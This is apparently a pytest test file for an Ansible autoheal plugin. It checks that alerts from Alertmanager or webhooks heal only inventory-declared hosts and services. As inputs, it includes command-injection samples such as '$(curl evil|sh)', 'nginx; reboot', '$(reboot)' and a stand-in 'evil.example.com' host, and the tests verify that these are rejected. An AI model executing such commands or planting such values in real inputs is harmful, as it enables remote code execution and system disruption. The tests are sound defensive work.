"""Alerts against a real inventory (written to disk, read by Ansible's inventory manager): exactly the named host and
service, or nothing."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from ansible_collections.sentinel.heal.plugins.plugin_utils.eda.events import read_alerts
from ansible_collections.sentinel.heal.plugins.plugin_utils.eda.fleet import Fleet, read_fleet
from ansible_collections.sentinel.heal.plugins.plugin_utils.eda.options import ALERT_WEBHOOK_OPTIONS, WATCHDOG_OPTIONS, source_options
from ansible_collections.sentinel.heal.plugins.plugin_utils.errors import ConfigError

INVENTORY = """
web:
  hosts:
    web1: {ansible_host: 10.0.0.1}
    web2: {ansible_host: "{{ '10.0.0.' ~ 2 }}"}
  vars:
    autoheal_services: [{name: nginx, ports: [80]}, {name: redis, service: redis-server}]
db:
  hosts:
    db1: {autoheal_services: [{name: postgresql}]}
    # two declarations of one unit (a check through the same init script): its unit names neither
    db2: {autoheal_services: [{name: pg-primary, service: postgresql}, {name: pg-replica, service: postgresql}]}
"""


@pytest.fixture(scope="module")
def fleet(tmp_path_factory: pytest.TempPathFactory) -> Fleet:
    path = tmp_path_factory.mktemp("inventory") / "hosts.yml"
    path.write_text(INVENTORY)
    return read_fleet(str(path))


def alertmanager(*labels: dict[str, str], status: str = "firing") -> dict[str, object]:
    return {"version": "4", "status": status, "receiver": "sentinel-heal",
            "alerts": [{"status": status, "labels": dict(label), "annotations": {"summary": "$(reboot)"}} for label in labels]}


def test_the_fleet_is_the_inventory_with_its_templated_declarations(fleet: Fleet) -> None:
    assert fleet.services == {"web1": ("nginx", "redis"), "web2": ("nginx", "redis"), "db1": ("postgresql",),
                              "db2": ("pg-primary", "pg-replica")}
    assert fleet.addresses == {"10.0.0.1": "web1", "10.0.0.2": "web2"}


@pytest.mark.parametrize(("labels", "service"), [
    # node_exporter's systemd collector: node_systemd_unit_state{name="redis-server.service", state="failed"}
    ({"alertname": "SystemdUnitFailed", "instance": "10.0.0.1:9100", "name": "redis-server.service", "state": "failed"}, "redis"),
    ({"host": "web1", "service": "redis-server"}, "redis"),
    ({"host": "web1", "service": "nginx.service"}, "nginx"),
    ({"host": "web1", "service": "redis.service"}, "redis"),
])
def test_an_alert_naming_a_service_by_its_unit_heals_the_declared_service(fleet: Fleet, labels: dict[str, str], service: str) -> None:
    requests, ignored = read_alerts(alertmanager(labels), fleet)
    assert ([(request.host, request.service) for request in requests], ignored) == ([("web1", service)], [])


def test_a_unit_two_declared_services_share_names_neither(fleet: Fleet) -> None:
    assert read_alerts(alertmanager({"host": "db2", "service": "postgresql.service"}), fleet) == (
        [], ["service 'postgresql.service' is not declared in autoheal_services of db2 (by its name or its unit's)"])
    assert [request.service for request in read_alerts(alertmanager({"host": "db2", "service": "pg-replica"}), fleet)[0]] == ["pg-replica"]


def test_an_alertmanager_alert_heals_exactly_its_host_and_service(fleet: Fleet) -> None:
    requests, ignored = read_alerts(alertmanager({"alertname": "NginxDown", "instance": "10.0.0.2:9100", "service": "nginx"}), fleet)
    assert ignored == []
    assert [request.event() for request in requests] == [
        {"sentinel": {"host": "web2", "service": "nginx", "source": "alertmanager", "reason": "alert NginxDown", "firing_since": ""},
         "meta": {"hosts": "web2"}}]


@pytest.mark.parametrize(("starts_at", "firing_since"), [
    ("2026-12-03T10:04:40.123Z", "2026-12-03T10:04:40.123Z"), ("2026-12-03T10:04:40+01:00", "2026-12-03T10:04:40+01:00"),
    ("yesterday", ""), ("2026-12-03T10:04:40Z; reboot", ""), (1764756280, "")])
def test_an_alerts_firing_since_is_its_start_when_it_reads_as_one(fleet: Fleet, starts_at: object, firing_since: str) -> None:
    """The rulebook's throttle holds back resends of one firing (the same startsAt), never a new firing: a relapse."""
    body = alertmanager({"alertname": "NginxDown", "instance": "10.0.0.2:9100", "service": "nginx"})
    body["alerts"][0]["startsAt"] = starts_at  # type: ignore[index]
    [request], _ignored = read_alerts(body, fleet)
    assert request.event()["sentinel"]["firing_since"] == firing_since


def test_a_plain_webhook_and_duplicates_in_one_body(fleet: Fleet) -> None:
    requests, ignored = read_alerts([{"host": "db1", "service": "postgresql"}] * 3, fleet)
    assert [(request.host, request.service, request.source) for request in requests] == [("db1", "postgresql", "webhook")]
    assert ignored == []


@pytest.mark.parametrize(("labels", "why"), [
    ({"host": "all", "service": "nginx"}, "host 'all' is not an inventory host"),
    ({"host": "web", "service": "nginx"}, "host 'web' is not an inventory host"),
    ({"host": "web*", "service": "nginx"}, "host 'web*' is not an inventory host"),
    ({"host": "web1,db1", "service": "nginx"}, "host 'web1,db1' is not an inventory host"),
    ({"host": "web1:!db1", "service": "nginx"}, "host 'web1:!db1' is not an inventory host"),
    ({"host": "evil.example.com", "service": "nginx"}, "host 'evil.example.com' is not an inventory host"),
    ({"host": "db1", "service": "nginx"}, "service 'nginx' is not declared in autoheal_services of db1 (by its name or its unit's)"),
    ({"host": "web1", "service": "nginx; reboot"},
     "service 'nginx; reboot' is not declared in autoheal_services of web1 (by its name or its unit's)"),
    ({"host": "web1"}, "names no host and service (host 'web1', service None)"),
])
def test_what_the_inventory_does_not_hold_is_ignored_never_widened(fleet: Fleet, labels: dict[str, str], why: str) -> None:
    assert read_alerts(alertmanager(labels), fleet) == ([], [why])


def test_shell_text_in_an_alert_never_reaches_the_event(fleet: Fleet) -> None:
    labels = {"alertname": "$(curl evil|sh)", "host": "web1", "service": "nginx", "job": "`reboot`"}
    requests, _ignored = read_alerts(alertmanager(labels), fleet)
    assert "evil" not in json.dumps([request.event() for request in requests])
    assert requests[0].reason == "alert"


def test_resolved_alerts_heal_nothing(fleet: Fleet) -> None:
    assert read_alerts(alertmanager({"alertname": "NginxDown", "host": "web1", "service": "nginx"}, status="resolved"), fleet) == (
        [], ["alert 'NginxDown' is 'resolved', not firing"])


def test_options_are_validated_as_a_module_s(tmp_path: Path) -> None:
    assert source_options("alert_webhook", ALERT_WEBHOOK_OPTIONS, {"inventory": "inv", "port": "5077"})["port"] == 5077
    with pytest.raises(ConfigError, match="interval"):
        source_options("watchdog", WATCHDOG_OPTIONS, {"inventory": "inv", "interval": 0.1})
    with pytest.raises(ConfigError, match="inventory"):
        source_options("watchdog", WATCHDOG_OPTIONS, {})


def test_a_wrong_value_in_a_hosts_declared_services_stops_the_source_naming_host_entry_field_and_value(tmp_path: Path) -> None:
    path = tmp_path / "hosts.yml"
    path.write_text("web:\n  hosts:\n    web1:\n      autoheal_services: [{name: nginx, ports: [80]}, {name: app, ports: [eighty]}]\n")
    with pytest.raises(ConfigError, match=r"web1: autoheal_services\[1\] \(app\): ports: \['eighty'\]: .*int"):
        read_fleet(str(path))
